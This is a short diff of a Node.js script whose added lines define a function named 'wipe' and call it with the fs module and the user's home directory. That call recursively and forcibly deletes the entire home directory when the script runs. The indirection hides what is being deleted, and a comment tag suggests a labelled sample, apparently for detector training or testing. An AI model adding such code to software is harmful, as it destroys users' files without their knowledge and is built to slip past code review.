@@ -98,3 +98,8 @@ const path = require('path');
 const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'x-'));
 setTimeout(fs.rmSync, 0, tmp, { recursive: true, force: true });
 console.log(os.userInfo().username);
+//@ pos the fs module and the home directory handed to a function of the program's own
+function wipe(files, dir) {
+  files.rmSync(dir, { recursive: true, force: true });
+}
+wipe(require('fs'), require('os').homedir());
